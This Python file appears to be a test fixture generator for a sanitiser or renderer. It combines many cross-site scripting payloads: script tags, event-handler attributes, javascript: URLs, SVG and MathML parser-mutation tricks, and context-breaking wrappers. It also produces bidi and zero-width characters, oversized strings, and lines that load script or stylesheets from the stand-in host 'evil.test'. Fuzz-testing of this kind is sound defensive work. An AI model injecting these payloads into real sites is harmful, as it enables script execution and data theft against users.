"""Hostile texts, generated: every way we know by which words of one person could act on the page of another."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice, product

ACTS = ("window.hurt=1", "top.hurt=1", "self['hu'+'rt']=1", "eval('window.hurt=1')", "import('//evil.test/x.js')")
EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus autofocus", "ontoggle", "onanimationstart", "onbegin")
TAGS = (
    "<script>{act}</script>", "<img src=x {event}={act}>", "<svg/{event}={act}>", "<body {event}={act}>",
    "<svg><animate {event}={act} attributeName=x dur=1s>", "<details open {event}={act}>", "<input {event}={act}>",
    "<video src=x {event}={act}></video>", "<iframe srcdoc='<script>parent.{act}</script>'></iframe>",
    "<iframe src='javascript:{act}'></iframe>", "<a href='javascript:{act}'>press</a>", "javascript:{act}",
    "<math><mtext><mglyph><style></math><img src {event}={act}>", "<object data='javascript:{act}'></object>",
    "<embed src='javascript:{act}'>", "<form action='javascript:{act}'><button>press</button></form>",
    "<style>@import '//evil.test/{act}';*{{background:url(//evil.test/x)}}</style>", "<base href='//evil.test/'>",
    "<link rel=stylesheet href='//evil.test/x.css'>", "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<template><script>{act}</script></template>", "<noscript><p title='</noscript><img src=x {event}={act}>'>",
    "<svg><script href='data:text/javascript,{act}'/></svg>", "<math href='javascript:{act}'>press</math>",
    "<div style='width:expression({act})'>", "<x id=x tabindex=1 {event}={act}>", "<portal src='javascript:{act}'>",
    "<svg><use href='data:image/svg+xml,<svg id=x {event}={act}/>#x'/></svg>", "<button popovertarget=x {event}={act}>",
)  # fmt: skip
AROUND = (
    "{0}", '">{0}', "'>{0}", "</textarea>{0}", "</script>{0}", "</template>{0}", "]]>{0}", "-->{0}", "</title>{0}",
    "{{{{ 7*7 }}}}{0}{{% raw %}}", "\\u003c{0}\\u003e", "&lt;{0}&gt;", "\u202e{0}\u202c", "a\u200b{0}\ufeff", "<!--{0}",
)  # fmt: skip
ODD = (
    "\u202egnp.exe", "\u2066\u2067\u2068\u2069 turned", "a\u0300\u0301\u0302\u0303" * 60, "\ufdfd" * 99,
    "\U0001f468\u200d" * 200,
    ">" * 3_990, "<b>" * 1_200, "(" * 3_990, "\N{RIGHT-TO-LEFT ISOLATE}" * 10 + "x",
    "%3Cscript%3Ewindow.hurt=1%3C/script%3E",
    "http://127.0.0.1:1/<script>window.hurt=1</script>", "data:text/html,<script>window.hurt=1</script>",
)  # fmt: skip


def payloads(many: int) -> list[str]:
    """So many of them, each different, of every kind from the first hundred on."""
    return [f"{number} {text}" for number, text in enumerate(islice(_texts(), many))]


def _texts() -> Iterator[str]:
    whole = list(product(range(len(TAGS)), range(len(AROUND))))
    order = sorted(whole, key=lambda pair: (pair[0] * 7 + pair[1] * 11) % 101)
    acts, events = cycle(ACTS), cycle(EVENTS)
    yield from ODD
    while True:
        for tag, around in order:
            yield AROUND[around].format(TAGS[tag].format(act=next(acts), event=next(events)))
        next(events)
